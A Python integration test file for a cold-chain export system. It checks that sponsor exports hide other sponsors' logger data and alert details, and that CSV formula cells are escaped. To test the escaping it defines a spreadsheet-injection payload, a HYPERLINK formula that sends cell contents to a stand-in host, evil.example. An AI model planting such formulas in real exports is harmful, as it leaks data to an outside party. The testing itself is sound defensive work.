"""Issue #20: what a sponsor's batch export may carry of a shared place, tried through the
real path: the fleet file into the catalog, readings into a real influxd, the signed record
from `export_batch(..., viewer=<sponsor viewer>)` in every format.

1. A USB logger report imported onto a unit belongs to the placements whose time it
   overlaps, cut to them: another sponsor's run of another year never reaches a record,
   and a file spanning two sponsors' stays shows each only its own time.
2. A sponsor's record has the alerts' states and times only, as the alert API gives them:
   no actor, comment or root cause. QA's record keeps everything.
3. CSV text cells that a spreadsheet would run as a formula begin with a single quote.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from reportlab.platypus import KeepTogether, LongTable, Paragraph
from sqlalchemy import Engine

from api.export import ExportSigner, export_batch
from api.export.document import ExportMeta
from api.export.pdf_format import story
from api.export.record import load_batch_record
from api.export.signing import verify_bytes
from api.export.walk import RecordEnd, Rules, walk_record
from coldchain.catalog import (
    Viewer,
    catalog_session,
    create_catalog_engine,
    import_fleet,
    upgrade_catalog,
)
from coldchain.catalog.alerts import (
    NewAlert,
    acknowledge_alert,
    close_alert,
    open_alert,
    resolve_alert,
)
from coldchain.catalog.logger_reports import record_report, resolve_target
from coldchain.config import Settings
from coldchain.influx import InfluxClient
from coldchain.loggers.serialize import device_record
from coldchain.times import to_ms
from tests.support.real_loggers import real_file
from tests.support.servers import InfluxServer

pytestmark = pytest.mark.integration

DAY = datetime(2026, 3, 2, tzinfo=UTC)
NOW = DAY + timedelta(hours=12)
ACME = Viewer("alice", "sponsor_viewer", "ACME")
FORMATS = ("json", "csv", "pdf")


def at(hours: float) -> datetime:
    return DAY + timedelta(hours=hours)


def _iso(hours: float) -> str:
    return at(hours).isoformat().replace("+00:00", "Z")


FLEET = f"""\
sponsors: [{{id: ACME, name: Acme Pharma}}, {{id: BETA, name: Beta Bio}}]
sites:
  - id: BSL
    timezone: Europe/Zurich
    units:
      - {{id: FRIDGE-01, kind: refrigerator, setpoint_c: 5.0, log_interval_s: 60, sensors: [{{id: p1}}]}}
      - {{id: FRIDGE-02, kind: refrigerator, setpoint_c: 5.0, log_interval_s: 60, sensors: [{{id: p1}}]}}
products:
  - {{id: VAX-A, sponsor: ACME, storage: {{min_c: 2.0, max_c: 8.0, alarm_delay_min: 30}}}}
  - {{id: VAX-B, sponsor: BETA, storage: {{min_c: 2.0, max_c: 8.0, alarm_delay_min: 30}}}}
batches:
  - {{id: LOT-A, product: VAX-A}}
  - {{id: LOT-A2, product: VAX-A}}
  - {{id: LOT-B, product: VAX-B}}
  - {{id: LOT-B2, product: VAX-B}}
  - {{id: LOT-B22, product: VAX-B}}
placements:
  - {{batch: LOT-B22, unit: BSL/FRIDGE-01, from: "2022-05-09T22:00:00Z", to: "2022-06-20T00:00:00Z"}}
  - {{batch: LOT-A, unit: BSL/FRIDGE-01, from: "{_iso(0)}", to: "{_iso(12)}"}}
  - {{batch: LOT-B, unit: BSL/FRIDGE-01, from: "{_iso(0)}", to: "{_iso(12)}"}}
  - {{batch: LOT-B2, unit: BSL/FRIDGE-02, from: "{_iso(0)}", to: "{_iso(6)}"}}
  - {{batch: LOT-A2, unit: BSL/FRIDGE-02, from: "{_iso(6)}", to: "{_iso(12)}"}}
"""


@dataclass
class World:
    influx_url: str
    influx_db: str
    engine: Engine
    data_dir: Path


@pytest.fixture
async def world(influxd: InfluxServer, influx_db: str, tmp_path: Path) -> AsyncIterator[World]:
    engine = create_catalog_engine(f"sqlite:///{tmp_path / 'catalog.sqlite3'}")
    upgrade_catalog(engine)
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(FLEET)
    import_fleet(engine, fleet, actor="test")
    async with InfluxClient(influxd.url, influx_db) as influx:
        await influx.create_database()
        yield World(influxd.url, influx_db, engine, tmp_path / "var")
        await influx.drop_database()
    engine.dispose()


def _series(
    device: str, start_h: float, end_h: float, value: Callable[[float], float], step_min: int = 1
) -> list[str]:
    lines = []
    minute = 0
    while (hour := start_h + minute / 60) < end_h:
        lines.append(
            f"reading,device={device},sensor=p1,site=BSL,source=unit "
            f"temp_c={value(hour)} {to_ms(at(hour))}"
        )
        minute += step_min
    return lines


async def _write(world: World, lines: list[str]) -> None:
    async with InfluxClient(world.influx_url, world.influx_db) as influx:
        await influx.write_lines(lines)


async def _export(world: World, batch: str, fmt: str, viewer: Viewer | None = None) -> bytes:
    signer = ExportSigner.load_or_create(world.data_dir)
    async with InfluxClient(world.influx_url, world.influx_db) as influx:
        stream = export_batch(
            batch,
            fmt,
            influx=influx,
            catalog_engine=world.engine,
            signer=signer,
            actor="export-bot",
            viewer=viewer,
            now=NOW,
        )
        body = b"".join([chunk async for chunk in stream])
    verify_bytes(body, signer.public_key)  # raises unless the signed export verifies
    return body


def _texts(flowables: list[Any]) -> str:
    out: list[str] = []
    for item in flowables:
        if isinstance(item, Paragraph):
            out.append(item.text)
        elif isinstance(item, LongTable):
            out.append(_texts([c for row in vars(item)["_cellvalues"] for c in row]))
        elif isinstance(item, KeepTogether):
            out.append(_texts(vars(item)["_content"]))
    return "\n".join(out)


async def _pdf_text(world: World, batch: str, viewer: Viewer | None) -> str:
    """The text of the PDF's paragraphs and tables, as `export_batch` would lay them out."""
    record = load_batch_record(world.engine, batch=batch, viewer=viewer, now=NOW)
    async with InfluxClient(world.influx_url, world.influx_db) as influx:
        async for event in walk_record(record, influx, rules=Rules.from_settings(Settings())):
            if isinstance(event, RecordEnd):
                return _texts(story(event.report, ExportMeta("pdf", "export-bot", NOW, "test")))
    raise AssertionError("the walk ends with RecordEnd")


async def _all_formats(world: World, batch: str, viewer: Viewer | None) -> dict[str, str]:
    out = {fmt: (await _export(world, batch, fmt, viewer)).decode("latin-1") for fmt in FORMATS}
    out["pdf_text"] = await _pdf_text(world, batch, viewer)
    return out


def _import(
    world: World, name: str, unit: str, file_name: str, span: tuple[datetime, datetime], actor: str
) -> None:
    with catalog_session(world.engine) as session:
        record_report(
            session,
            target=resolve_target(session, unit=unit),
            record=device_record(real_file(name)),
            file_name=file_name,
            first_reading_at=span[0],
            last_reading_at=span[1],
            actor=actor,
            now=NOW,
        )


async def test_another_sponsors_logger_report_of_another_year_never_reaches_the_record(
    world: World,
) -> None:
    """BETA's 2022 Fridge-tag run (38 days, 2 May to 8 June, max 30.3 °C) was imported onto
    the fridge ACME's LOT-A shares in 2026. ACME's record carries none of it, in any
    format, nor does QA's; BETA's 2022 batch gets it, cut to its own placement (from
    10 May): the device's days before are not shown."""
    _import(
        world,
        "fridgetag2l",
        "BSL/FRIDGE-01",
        "BETA-LOT-B22-fridgetag.txt",
        (datetime(2022, 5, 1, 22, 0, tzinfo=UTC), datetime(2022, 6, 8, 21, 55, tzinfo=UTC)),
        actor="beta-ops",
    )
    await _write(world, _series("FRIDGE-01", 0, 12, lambda _: 5.0))
    texts = await _all_formats(world, "LOT-A", ACME)
    assert json.loads(texts["json"])["summary"]["device_reports"] == []
    for fmt, text in texts.items():
        for secret in ("BETA-LOT-B22", "beta-ops", "130500109088", "Fridge-tag"):
            assert secret not in text, (fmt, secret)
    for fmt in ("json", "csv", "pdf_text"):  # the PDF's bytes have numbers of their own
        assert "30.3" not in texts[fmt], fmt
    qa = json.loads(await _export(world, "LOT-A", "json"))
    assert qa["summary"]["device_reports"] == []

    [report] = json.loads(await _export(world, "LOT-B22", "json"))["summary"]["device_reports"]
    assert report["file"] == "BETA-LOT-B22-fridgetag.txt"  # QA's record: whose file it is
    days = [d["day"] for d in report["days"]]
    assert (days[0], days[-1], len(days)) == ("2022-05-10", "2022-06-08", 30)


async def test_a_logger_file_spanning_two_sponsors_shows_each_only_its_own_time(
    world: World,
) -> None:
    """A Q-tag's file covers FRIDGE-02 from 00:00 to 12:00: BETA's LOT-B2 until 06:00 (at
    20 °C), ACME's LOT-A2 after (5 °C). ACME's record compares only its six hours' readings,
    leaves out the device's whole-run figures (they cover BETA's time too), and neither
    names the file nor who imported it."""
    _import(world, "qtag_run2", "BSL/FRIDGE-02", "BETA-shared-run.txt", (at(0), at(12)), "beta-ops")
    await _write(world, _series("FRIDGE-02", 0, 12, lambda h: 20.0 if h < 6 else 5.0, step_min=10))
    texts = await _all_formats(world, "LOT-A2", ACME)
    [report] = json.loads(texts["json"])["summary"]["device_reports"]
    assert report["readings_stored"] == 36  # 06:00 to 12:00 every 10 minutes
    assert (report["run"], report["events"], report["days"]) == ([], [], [])
    assert (report["file"], report["imported_by"]) == (None, None)
    for fmt, text in texts.items():
        for secret in ("BETA-shared-run", "beta-ops"):
            assert secret not in text, (fmt, secret)
    for fmt in ("json", "csv", "pdf_text"):  # BETA's hours at 20 °C
        assert "20.0" not in texts[fmt], fmt
    [qa] = json.loads(await _export(world, "LOT-A2", "json"))["summary"]["device_reports"]
    assert (qa["file"], qa["imported_by"], qa["readings_stored"]) == (
        "BETA-shared-run.txt",
        "beta-ops",
        36,
    )


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"LOT-B door")'


async def _handled_alarm(world: World) -> None:
    """Two hours at 12 °C in the shared FRIDGE-01; the operator's comment names BETA's lot,
    QA's root cause is a spreadsheet formula."""
    await _write(world, _series("FRIDGE-01", 0, 12, lambda h: 12.0 if 4 <= h < 6 else 5.0))
    with catalog_session(world.engine) as session:
        open_alert(
            session,
            NewAlert(
                alert_id="al-fridge-1",
                kind="excursion",
                severity="alarm",
                site="BSL",
                source="unit",
                device="FRIDGE-01",
                sensor="p1",
                start=at(4),
                end=None,
                peak_c=12.0,
                detail={"limit_c": 8.0},
            ),
            at=at(4.5),
        )
        acknowledge_alert(
            session, "al-fridge-1", actor="op-jane", at=at(5), comment="moved LOT-B of BETA out"
        )
        resolve_alert(session, "al-fridge-1", actor="detector", at=at(6), end=at(6))
        close_alert(session, "al-fridge-1", actor="qa-tom", at=at(7), root_cause=HYPERLINK)


async def test_a_sponsors_record_has_alert_states_and_times_only(world: World) -> None:
    """The alert API gives a sponsor an alert's states and times; so does their export, in
    every format. The alarm still counts as explained (QA closed it with a root cause):
    the sponsor's verdict is QA's."""
    await _handled_alarm(world)
    texts = await _all_formats(world, "LOT-A", ACME)
    summary = json.loads(texts["json"])["summary"]
    alert = summary["excursions"][0]["detector_alert"]
    assert (alert["state"], alert["acknowledged_at"]["utc"], alert["closed_at"]["utc"]) == (
        "closed",
        "2026-03-02T05:00:00.000Z",
        "2026-03-02T07:00:00.000Z",
    )
    for key in ("acknowledged_by", "acknowledge_comment", "closed_by", "root_cause"):
        assert alert[key] is None
    for fmt, text in texts.items():
        for secret in ("op-jane", "qa-tom", "LOT-B", "BETA", "HYPERLINK", "evil.example"):
            assert secret not in text, (fmt, secret)
    assert "closed 2026-03-02 08:00 +01:00" in texts["pdf_text"]
    assert "ack 2026-03-02 06:00 +01:00" in texts["pdf_text"]
    qa = json.loads(await _export(world, "LOT-A", "json"))["summary"]
    assert summary["verdict"] == qa["verdict"]
    states = [(f["kind"], f["state"]) for f in summary["findings"]]
    assert states == [(f["kind"], f["state"]) for f in qa["findings"]]
    assert ("excursion", "cleared") in states
    qa_alert = qa["excursions"][0]["detector_alert"]
    assert (qa_alert["acknowledged_by"], qa_alert["closed_by"], qa_alert["root_cause"]) == (
        "op-jane",
        "qa-tom",
        HYPERLINK,
    )
    assert qa_alert["acknowledge_comment"] == "moved LOT-B of BETA out"


async def test_qas_csv_neutralises_formulas_but_keeps_numbers(world: World) -> None:
    """QA's CSV carries the root cause, but as text: its cell begins with a single quote;
    the header says so. Temperatures stay numbers."""
    await _handled_alarm(world)
    csv = (await _export(world, "LOT-A", "csv")).decode()
    assert "# text_cells,a text cell beginning with = + - @" in csv
    assert "'=HYPERLINK(" in csv
    cells = [cell for line in csv.splitlines() for cell in line.split(",")]
    assert not any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in cells)
    assert ",12.0," in csv
    assert ",5.0," in csv
